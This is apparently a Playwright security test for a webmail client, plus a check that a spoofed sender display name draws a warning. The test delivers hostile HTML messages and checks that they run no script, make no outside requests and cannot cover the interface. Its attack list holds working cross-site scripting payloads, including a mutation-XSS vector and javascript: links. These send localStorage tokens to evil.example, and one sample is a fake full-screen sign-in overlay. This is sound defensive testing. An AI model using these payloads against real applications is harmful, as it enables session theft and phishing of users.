import { expect } from "@playwright/test";
import { textPart } from "../../tools/demo/mime.ts";
import { openMail, signIn, test, wordsOf } from "../support/fixtures.ts";
import { aMail } from "../support/mail.ts";

const grab =
  "try{top.pwned=1}catch(e){}try{parent.pwned=1}catch(e){}fetch('https://evil.example/?'+(self.localStorage&&localStorage.token))";

const attacks: readonly (readonly [string, string])[] = [
  ["script", `<script>${grab}</script>`],
  ["image error", `<img src=x onerror="${grab}">`],
  ["svg load", `<svg onload="${grab}"><script>${grab}</script></svg>`],
  [
    "math",
    `<math><mtext><table><mglyph><style><img src=x onerror="${grab}"></style></mglyph></table></mtext></math>`,
  ],
  [
    "iframe",
    `<iframe srcdoc="<script>${grab}</script>"></iframe><iframe src="javascript:${grab}"></iframe>`,
  ],
  [
    "link",
    `<a href="javascript:${grab}" target="_top">Press here</a><base href="https://evil.example/">`,
  ],
  ["refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  [
    "form",
    `<form action="https://evil.example/" target="_top"><input name=a autofocus onfocus="${grab}"><button>Go</button></form>`,
  ],
  [
    "style",
    "<style>@import url(https://evil.example/a.css);body{background:url(https://evil.example/b.png)}</style>",
  ],
  [
    "remote image",
    '<img src="https://evil.example/c.png"><img srcset="https://evil.example/d.png 2x"><picture><source srcset="https://evil.example/e.png"></picture>',
  ],
  [
    "media",
    '<video poster="https://evil.example/f.png" src="https://evil.example/g.mp4" autoplay></video><object data="https://evil.example/h"></object><embed src="https://evil.example/i">',
  ],
  [
    "cover",
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Sign in again</div>',
  ],
  [
    "prefetch",
    '<link rel="prefetch" href="https://evil.example/j"><link rel="dns-prefetch" href="//evil.example"><link rel="stylesheet" href="https://evil.example/k.css">',
  ],
];

test("hostile messages run no script, send no request, do not navigate, and paint nothing outside the frame", async ({
  page,
  user,
  product,
}) => {
  const [north] = user.mailboxes;
  for (const [name, html] of attacks) {
    const part = textPart(`<html><body><p>Harmless words of ${name}.</p>${html}</body></html>`, {
      subtype: "html",
    });
    await north.deliver(aMail({ subject: `Attack by ${name}`, part }));
  }
  await user.connect();
  const foreign: string[] = [];
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.route(
    (url) => url.protocol.startsWith("http") && url.origin !== product.app.url,
    (route) => {
      foreign.push(route.request().url());
      return route.abort();
    },
  );
  await signIn(page, user);
  const home = () => new URL(page.url()).pathname.startsWith("/app");
  for (const [name] of attacks) {
    await openMail(page, `Attack by ${name}`);
    await expect.poll(() => wordsOf(page)).toContain(`Harmless words of ${name}.`);
    // Wait for two animation frames: anything that runs automatically has run.
    await page.evaluate(
      () => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))),
    );
    expect(await page.evaluate(() => "pwned" in window), name).toBe(false);
    expect(foreign, name).toEqual([]);
    expect(dialogs, name).toEqual([]);
    expect(home(), name).toBe(true);
    // The message does not cover the top bar: the search box can be hit.
    const box = page.getByLabel("Search mail").first();
    const hit = await box.evaluate((element) => {
      const { x, y, width, height } = element.getBoundingClientRect();
      return element.contains(document.elementFromPoint(x + width / 2, y + height / 2));
    });
    expect(hit, name).toBe(true);
  }
});

test("warns of a sender who pretends to be another one", async ({ page, user }) => {
  const [north] = user.mailboxes;
  const from = '"Anna at anna@harbour-bank.example" <anna@elsewhere.example>';
  await north.deliver(aMail({ subject: "Your account", from }));
  await north.deliver(aMail({ subject: "Lunch", from: "Ben <ben@example.org>" }));
  await user.connect();
  await signIn(page, user);
  await openMail(page, "Your account");
  await expect(page.getByRole("note")).toContainText("the real one: anna@elsewhere.example");
  await openMail(page, "Lunch");
  await expect(page.getByRole("note")).toHaveCount(0);
});
